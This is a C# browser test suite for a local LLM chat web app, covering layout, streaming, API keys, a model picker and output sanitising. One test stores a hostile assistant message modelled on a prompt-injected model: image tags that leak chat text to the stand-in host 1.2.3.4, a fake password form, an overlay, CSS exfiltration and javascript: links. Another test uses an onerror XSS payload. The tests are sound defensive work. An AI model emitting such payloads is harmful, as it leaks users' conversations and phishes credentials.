using System.Text.Json;
using System.Text.Json.Nodes;
using Xunit;

namespace Sputnik.Tests.Server;

/// <summary>
/// The chat app in headless chromium (see <see cref="Chromium"/>): a first message with the default settings against
/// the bundled model, the layout on phone-sized screens, model output that tries to load remote images or show forms,
/// and streaming with settings the user chose. Screenshots go to TestResults/screenshots beside the test binaries.
/// </summary>
public sealed class BrowserTests
{
    /// <summary>
    /// Page script that records the chat requests the app sends (window.__requests) and the status of each /tokenize
    /// answer (window.__tokenizeStatuses).
    /// </summary>
    private const string RecordFetches = """
        window.__requests = [];
        window.__tokenizeStatuses = [];
        const realFetch = window.fetch;
        window.fetch = async (url, init) => {
          if (String(url).endsWith('/chat/completions')) window.__requests.push(JSON.parse(init.body));
          const response = await realFetch(url, init);
          if (String(url).endsWith('/tokenize')) window.__tokenizeStatuses.push(response.status);
          return response;
        };

        """;

    private const string Question = "What is 347 * 28?";

    private static Task<TestServer> StartBundledAsync() =>
        TestServer.StartAsync(o => o with { ContextLength = 0 }, modelPath: TestServer.BundledModelPath);

    [Fact]
    public async Task FirstMessageWithDefaultSettingsIsAnsweredByTheBundledModel()
    {
        await using var browser = await Chromium.StartAsync();
        await using var server = await StartBundledAsync();
        var card = (await server.GetJsonAsync("/v1/models"))["data"]![0]!;
        int context = (int)card["context_length"]!;
        await browser.ViewportAsync(1280, 800, mobile: false);
        await browser.OpenAppAsync(server.BaseAddress);
        var page = browser.Page;

        // Before the first message: which model, what it is, example prompts.
        var empty = await page.EvalJsonAsync("""
            JSON.stringify({
              model: document.getElementById('model-name').textContent,
              facts: document.getElementById('model-facts').textContent,
              title: document.querySelector('#messages .empty h1')?.textContent ?? '',
              examples: [...document.querySelectorAll('#messages .empty .examples button')].map(b => b.textContent),
              maxTokens: document.getElementById('max-tokens').value,
              budget: document.getElementById('budget').value })
            """);
        Assert.Equal("sputnik-r1-tiny", (string)empty["model"]!);
        Assert.Contains($"{context}-token context", (string)empty["facts"]!);
        Assert.Contains("sputnik-r1-tiny", (string)empty["title"]!);
        Assert.Contains(Question, empty["examples"]!.AsArray().Select(e => (string)e!));
        Assert.Equal("", (string)empty["maxTokens"]!); // the defaults, untouched
        Assert.Equal("", (string)empty["budget"]!);
        await browser.ScreenshotAsync("chat-1280-empty.png");

        // Record what the app asks the server for, then send the question the way a person does.
        await page.EvalAsync(RecordFetches + """
            document.getElementById('input').value = 'What is 347 * 28?';
            document.getElementById('input').dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
            """);
        await page.WaitForAsync("document.querySelectorAll('.msg.assistant .meta').length > 0 || !document.getElementById('error').hidden", 120);
        var o = await page.EvalJsonAsync("""
            JSON.stringify({
              error: document.getElementById('error').hidden ? '' : document.getElementById('error-text').textContent,
              user: document.querySelector('.msg.user .body')?.textContent ?? '',
              thinking: document.querySelector('.msg.assistant details.thinking .reasoning')?.textContent ?? '',
              summary: document.querySelector('.msg.assistant details.thinking summary')?.textContent ?? '',
              answer: document.querySelector('.msg.assistant .body')?.textContent ?? '',
              meta: document.querySelector('.msg.assistant .meta span')?.textContent ?? '',
              conversations: document.querySelectorAll('#conversations li').length,
              request: window.__requests[0] ?? null,
              csp: window.__csp })
            """);
        Assert.Equal("", (string)o["error"]!);
        Assert.Equal(Question, (string)o["user"]!);
        Assert.False(string.IsNullOrWhiteSpace((string)o["thinking"]!), "the thinking panel is empty");
        Assert.StartsWith("Thought for", (string)o["summary"]!);
        Assert.Contains("9716", (string)o["answer"]!);
        Assert.Contains("tok/s", (string)o["meta"]!);
        Assert.Equal(1, (int)o["conversations"]!);
        Assert.Empty(o["csp"]!.AsArray());

        // The request fits the context without the server's help: max_tokens leaves room for the question itself.
        var request = o["request"]!;
        int questionTokens = (await server.PostAsync("/tokenize", $$"""{"content":{{JsonSerializer.Serialize(Question)}}}""")).Body["tokens"]!.AsArray().Count;
        int maxTokens = (int)request["max_tokens"]!;
        Assert.InRange(maxTokens, 1, context - questionTokens);
        Assert.Equal("enabled", (string)request["thinking"]!["type"]!);
        Assert.InRange((int)request["thinking"]!["budget_tokens"]!, 1, maxTokens - 1);

        await browser.ScreenshotAsync("chat-1280.png");
    }

    [Theory]
    [InlineData(390, 844)]
    [InlineData(360, 740)]
    public async Task OnAPhoneTheTextBoxIsUsableAndTheSidebarIsAMenu(int width, int height)
    {
        await using var browser = await Chromium.StartAsync();
        await using var server = await StartBundledAsync();
        await browser.ViewportAsync(width, height, mobile: true);
        await browser.OpenAppAsync(server.BaseAddress);
        var page = browser.Page;

        const string Layout = """
            JSON.stringify((() => {
              const input = document.getElementById('input').getBoundingClientRect();
              const side = document.getElementById('sidebar').getBoundingClientRect();
              const send = document.getElementById('send').getBoundingClientRect();
              const atInput = document.elementFromPoint(input.left + input.width / 2, input.top + input.height / 2);
              return { inputWidth: input.width, inputTop: input.top, inputHeight: input.height,
                sidebarRight: side.right, sidebarLeft: side.left, sidebarVisible: getComputedStyle(document.getElementById('sidebar')).visibility === 'visible',
                inputOnTop: atInput === document.getElementById('input'), sendRight: send.right,
                pageWidth: document.documentElement.scrollWidth, viewport: window.innerWidth,
                composerHeight: document.getElementById('composer').getBoundingClientRect().height,
                menuShown: document.getElementById('menu').getBoundingClientRect().width > 0,
                errorShown: !document.getElementById('error').hidden,
                errorRect: document.getElementById('error').getBoundingClientRect().toJSON() };
            })())
            """;
        var before = await page.EvalJsonAsync(Layout);
        Assert.True((double)before["inputWidth"]! >= 250, $"the text box is {(double)before["inputWidth"]!} px wide at {width} px");
        Assert.True((bool)before["inputOnTop"]!, "something covers the text box");
        Assert.True((double)before["sidebarRight"]! <= 0 || !(bool)before["sidebarVisible"]!, "the sidebar is on screen before the menu is opened");
        Assert.True((double)before["sendRight"]! <= width, "the Send button is cut off");
        Assert.Equal(width, (int)before["pageWidth"]!); // nothing scrolls sideways
        Assert.True((bool)before["menuShown"]!);
        await browser.ScreenshotAsync($"chat-{width}-empty.png");

        // The menu button opens the sidebar over the page; the backdrop closes it.
        await page.EvalAsync("document.getElementById('menu').click()");
        await page.WaitForAsync("document.getElementById('sidebar').getBoundingClientRect().left >= 0 && getComputedStyle(document.getElementById('sidebar')).visibility === 'visible'", 5);
        await page.WaitForAsync("document.getElementById('sidebar').getBoundingClientRect().left === 0", 5); // the slide-in has finished
        var open = await page.EvalJsonAsync("JSON.stringify({ right: document.getElementById('sidebar').getBoundingClientRect().right, newChat: document.getElementById('new-chat').getBoundingClientRect().width })");
        Assert.InRange((double)open["right"]!, 200, width);
        Assert.True((double)open["newChat"]! > 0);
        await browser.ScreenshotAsync($"chat-{width}-menu.png");
        await page.EvalAsync("document.getElementById('backdrop').click()");
        await page.WaitForAsync("getComputedStyle(document.getElementById('sidebar')).visibility === 'hidden'", 5);

        // A question from the empty state gets its answer; the layout holds with a conversation on screen.
        await page.EvalAsync("[...document.querySelectorAll('.examples button')].find(b => b.textContent === 'What is 347 * 28?').click()");
        await page.WaitForAsync("document.querySelectorAll('.msg.assistant .meta').length > 0 || !document.getElementById('error').hidden", 120);
        Assert.Contains("9716", (string)(await page.EvalAsync("document.querySelector('.msg.assistant .body')?.textContent ?? document.getElementById('error-text').textContent"))!);
        var answered = await page.EvalJsonAsync(Layout);
        Assert.True((double)answered["inputWidth"]! >= 250);
        Assert.True((bool)answered["inputOnTop"]!);
        Assert.Equal(width, (int)answered["pageWidth"]!);
        await browser.ScreenshotAsync($"chat-{width}-answer.png");

        // An error (here: a message longer than the whole context) shows above the composer without moving it, and
        // the message stays in the text box.
        int context = (int)(await server.GetJsonAsync("/v1/models"))["data"]![0]!["context_length"]!;
        await page.EvalAsync($$"""
            document.getElementById('input').value = 'What is 347 * 28? '.repeat({{context / 18 + 10}});
            document.getElementById('input').dispatchEvent(new Event('input'));
            """);
        var typed = await page.EvalJsonAsync(Layout);
        await page.EvalAsync("document.getElementById('input').dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }))");
        await page.WaitForAsync("!document.getElementById('error').hidden", 30);
        var failed = await page.EvalJsonAsync(Layout);
        Assert.Contains("context", (string)(await page.EvalAsync("document.getElementById('error-text').textContent"))!);
        Assert.StartsWith("What is 347 * 28? What is", (string)(await page.EvalAsync("document.getElementById('input').value"))!);
        Assert.Equal(2, (int)(await page.EvalAsync("document.querySelectorAll('.msg').length"))!); // nothing was added to the chat
        Assert.Equal((double)typed["composerHeight"]!, (double)failed["composerHeight"]!, 0.5);
        Assert.Equal((double)typed["inputTop"]!, (double)failed["inputTop"]!, 0.5);
        Assert.True((double)failed["errorRect"]!["left"]! >= 0 && (double)failed["errorRect"]!["right"]! <= width, "the error is cut off");
        Assert.True((double)failed["errorRect"]!["bottom"]! <= (double)failed["inputTop"]!, "the error covers the text box");
        await browser.ScreenshotAsync($"chat-{width}-error.png");
        Assert.Empty((await page.EvalJsonAsync("JSON.stringify(window.__csp)")).AsArray());
    }

    [Fact]
    public async Task ModelOutputLoadsNoRemoteImageAndShowsNoForm()
    {
        await using var browser = await Chromium.StartAsync();
        await using var server = await StartBundledAsync();
        // What a prompt-injected model could write to leak the chat or phish: stored as an assistant message.
        const string Hostile = """
            Here you go <img src="http://1.2.3.4/x?chat=secret"> and ![pixel](http://1.2.3.4/y.png) and math $x^2$.

            <form action="http://1.2.3.4/post"><input name="password" placeholder="password"><button>Log in</button></form>
            <svg><image href="http://1.2.3.4/z.png"/></svg>
            <style>body { background: url(http://1.2.3.4/s.png) }</style>
            <div style="position:fixed;inset:0;background:red">covering</div>
            <a href="javascript:alert(1)">click</a> <a href="https://example.org/">a link</a>
            """;
        var c = await server.PostAsync("/api/conversations", """{"title":"hostile"}""");
        string id = (string)c.Body["id"]!;
        await server.PostAsync($"/api/conversations/{id}/messages", """{"role":"user","content":"show me"}""");
        await server.PostAsync($"/api/conversations/{id}/messages", JsonSerializer.Serialize(new { role = "assistant", content = Hostile }));

        await browser.Page.SendAsync("Network.enable");
        await browser.OpenAppAsync(server.BaseAddress);
        var page = browser.Page;
        await page.WaitForAsync("document.querySelectorAll('#conversations li').length === 1", 10);
        await page.EvalAsync("document.querySelector('#conversations li').click()");
        await page.WaitForAsync("document.querySelector('.msg.assistant .body .katex') !== null", 10);
        var o = await page.EvalJsonAsync("""
            JSON.stringify((() => {
              const body = document.querySelector('.msg.assistant .body');
              return {
                controls: body.querySelectorAll('form, input, button, textarea, select, style').length,
                images: [...body.querySelectorAll('img, image')].map(i => i.getAttribute('src') || i.getAttribute('href') || ''),
                notes: body.querySelectorAll('.blocked-image').length,
                styled: [...body.querySelectorAll('[style]')].filter(e => !e.closest('.katex')).length,
                scripts: body.innerHTML.includes('javascript:'),
                link: body.querySelector('a[href="https://example.org/"]')?.getAttribute('rel') ?? '',
                text: body.textContent,
                background: getComputedStyle(document.body).backgroundImage,
                csp: window.__csp };
            })())
            """);
        Assert.Equal(0, (int)o["controls"]!);
        Assert.All(o["images"]!.AsArray(), src => Assert.DoesNotContain("1.2.3.4", (string)src!));
        Assert.True((int)o["notes"]! >= 2, "the blocked images are not named in the text");
        Assert.Equal(0, (int)o["styled"]!);
        Assert.False((bool)o["scripts"]!);
        Assert.Contains("noopener", (string)o["link"]!);
        Assert.Contains("Log in", (string)o["text"]!); // the form's words stay, as text
        Assert.Equal("none", (string)o["background"]!);
        // The sanitizer removed it all before anything was requested: no remote URL reached the CSP. (Parsing the
        // output in DOMPurify's inert document reports its inline <style> and handlers to the page's CSP; harmless.)
        Assert.All(o["csp"]!.AsArray(), v => Assert.EndsWith(" inline", (string)v!));

        await browser.ScreenshotAsync("chat-hostile-output.png");
        Assert.Empty(RemoteRequests(page));

        // The CSP is the second wall: a remote image put on the page by script is refused before it leaves the browser.
        await page.EvalAsync("const i = new Image(); i.src = 'http://1.2.3.4/direct.png'; document.body.append(i);");
        await page.WaitForAsync("window.__csp.some(v => v.includes('1.2.3.4'))", 5);
        await page.WaitForAsync("true", 1);
        var attempts = RemoteRequests(page);
        Assert.NotEmpty(attempts);
        foreach (string requestId in attempts)
        {
            var failed = page.Events.FirstOrDefault(e => (string?)e["method"] == "Network.loadingFailed" && (string?)e["params"]!["requestId"] == requestId);
            Assert.Equal("csp", (string?)failed?["params"]!["blockedReason"]);
        }
    }

    /// <summary>Request ids of the requests the page started to 1.2.3.4 (the "attacker" in these tests).</summary>
    private static List<string> RemoteRequests(Cdp page) =>
        [.. page.Events.Where(e => (string?)e["method"] == "Network.requestWillBeSent" &&
                ((string)e["params"]!["request"]!["url"]!).Contains("1.2.3.4", StringComparison.Ordinal))
            .Select(e => (string)e["params"]!["requestId"]!)];

    [Fact]
    public async Task WithAnApiKeyTheAppSaysSoAndLoadsOnceItIsEntered()
    {
        await using var browser = await Chromium.StartAsync();
        await using var server = await TestServer.StartAsync(o => o with { ContextLength = 0, ApiKey = "sekrit" }, modelPath: TestServer.BundledModelPath);
        var page = browser.Page;
        await page.SendAsync("Page.navigate", new JsonObject { ["url"] = server.BaseAddress.ToString() });
        await page.WaitForAsync("document.readyState === 'complete' && !document.getElementById('error').hidden", 15);
        Assert.Contains("API key", (string)(await page.EvalAsync("document.getElementById('error-text').textContent"))!);
        await page.EvalAsync("""
            const key = document.getElementById('api-key');
            key.value = 'sekrit';
            key.dispatchEvent(new Event('change'));
            """);
        await page.WaitForAsync("document.getElementById('model-name').textContent === 'sputnik-r1-tiny'", 10);
        Assert.True((bool)(await page.EvalAsync("document.getElementById('error').hidden"))!);
    }

    [Fact]
    public async Task ChatPageStreamsAnAnswerWithSettingsTheUserChose()
    {
        await using var browser = await Chromium.StartAsync();
        await using var server = await TestServer.StartAsync(o => o with
        {
            ChatTemplate = "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}{% endfor %}" +
                           "{% if add_generation_prompt %}{{ '<|assistant|><think>\\n' }}{% endif %}",
        });
        await browser.OpenAppAsync(server.BaseAddress);
        var page = browser.Page;
        await page.EvalAsync(RecordFetches + """
            document.getElementById('max-tokens').value = 40;
            document.getElementById('budget').value = 10;
            document.getElementById('input').value = 'Tell me a story about a cat';
            document.getElementById('input').dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
            """);
        await page.WaitForAsync("document.querySelectorAll('.msg.assistant .meta').length > 0", 30);
        var o = await page.EvalJsonAsync("""
            JSON.stringify({
              user: document.querySelector('.msg.user .body').textContent,
              thinking: document.querySelector('.msg.assistant details.thinking .reasoning')?.textContent ?? '',
              summary: document.querySelector('.msg.assistant details.thinking summary')?.textContent ?? '',
              answer: document.querySelector('.msg.assistant .body').textContent,
              meta: document.querySelector('.msg.assistant .meta span').textContent,
              conversations: document.querySelectorAll('#conversations li').length,
              request: window.__requests[0] })
            """);
        Assert.Equal("Tell me a story about a cat", (string)o["user"]!);
        Assert.False(string.IsNullOrWhiteSpace((string)o["thinking"]!));
        Assert.StartsWith("Thought for", (string)o["summary"]!);
        Assert.False(string.IsNullOrWhiteSpace((string)o["answer"]!));
        Assert.Contains("tok/s", (string)o["meta"]!);
        Assert.Equal(40, (int)o["request"]!["max_tokens"]!); // the user's settings, used as given (they fit the context)
        Assert.Equal(10, (int)o["request"]!["thinking"]!["budget_tokens"]!);
        Assert.Equal(1, (int)o["conversations"]!);

        Assert.Empty((await page.EvalJsonAsync("JSON.stringify(window.__csp)")).AsArray()); // the app runs under its CSP

        // Markdown, code highlighting and math go through the vendored libraries.
        var rendered = await page.EvalJsonAsync("""
            (() => { const d = renderMarkdown('# Title\n\nEuler: $e^{i\\pi}+1=0$ costs $5\n\n```js\nlet a = 1;\n```\n<img src=x onerror=alert(1)>');
              return JSON.stringify({ h1: !!d.querySelector('h1'), katex: !!d.querySelector('.katex'), hljs: !!d.querySelector('code.hljs'),
                dollars: d.textContent.includes('$5'), onerror: d.innerHTML.includes('onerror') }); })()
            """);
        Assert.True((bool)rendered["h1"]!);
        Assert.True((bool)rendered["katex"]!);
        Assert.True((bool)rendered["hljs"]!);
        Assert.True((bool)rendered["dollars"]!);
        Assert.False((bool)rendered["onerror"]!);
        await browser.ScreenshotAsync("chat-stories.png");
    }

    /// <summary>A multi-model server: the top bar's picker lists the models, fits a phone, and the chosen one is asked.</summary>
    [Fact]
    public async Task WithSeveralModelsAPickerChoosesTheModelAndFitsAPhone()
    {
        using var cache = new TempHubCache();
        await using var browser = await Chromium.StartAsync();
        await using var server = await TestServer.StartAsync(o => cache.Options(o) with { EnableWebApp = true, ContextLength = 256 },
            modelPath: TestServer.BundledModelPath);
        await browser.ViewportAsync(390, 844, mobile: true);
        await browser.OpenAppAsync(server.BaseAddress);
        var page = browser.Page;
        await page.WaitForAsync("document.getElementById('model').options.length > 0", 10);
        var bar = await page.EvalJsonAsync("""
            JSON.stringify((() => {
              const sel = document.getElementById('model'), r = sel.getBoundingClientRect();
              return { options: [...sel.options].map(o => o.value), pickerShown: !sel.hidden && r.width > 0, nameShown: !document.getElementById('model-name').hidden,
                right: r.right, pageWidth: document.documentElement.scrollWidth, inputWidth: document.getElementById('input').getBoundingClientRect().width };
            })())
            """);
        Assert.Equal(["sputnik-r1-tiny", TempHubCache.ModelA, TempHubCache.ModelB], bar["options"]!.AsArray().Select(o => (string)o!));
        Assert.True((bool)bar["pickerShown"]!);
        Assert.False((bool)bar["nameShown"]!);
        Assert.True((double)bar["right"]! <= 390, "the picker is cut off");
        Assert.Equal(390, (int)bar["pageWidth"]!); // nothing scrolls sideways
        Assert.True((double)bar["inputWidth"]! >= 250);
        await browser.ScreenshotAsync("chat-390-picker.png");

        await page.EvalAsync(RecordFetches + $$"""
            const sel = document.getElementById('model');
            sel.value = '{{TempHubCache.ModelB}}';
            sel.dispatchEvent(new Event('change'));
            document.getElementById('max-tokens').value = 4;
            document.getElementById('input').value = 'Hi';
            document.getElementById('input').dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
            """);
        await page.WaitForAsync("document.querySelectorAll('.msg.assistant .meta').length > 0 || !document.getElementById('error').hidden", 120);
        var sent = await page.EvalJsonAsync("""
            JSON.stringify({ error: document.getElementById('error').hidden ? '' : document.getElementById('error-text').textContent,
              model: window.__requests[0]?.model ?? null, tokenize: window.__tokenizeStatuses })
            """);
        Assert.Equal(("", TempHubCache.ModelB), ((string)sent["error"]!, (string?)sent["model"]));
        // The prompt-size estimate asks the chosen model's tokenizer; unnamed, a multi-model server answers 400.
        var tokenizeStatuses = sent["tokenize"]!.AsArray().Select(s => (int)s!).ToArray();
        Assert.NotEmpty(tokenizeStatuses);
        Assert.All(tokenizeStatuses, status => Assert.Equal(200, status));
        Assert.Contains(TempHubCache.ModelB, (await server.GetJsonAsync("/api/ps"))["models"]!.AsArray().Select(m => (string)m!["name"]!));
    }
}
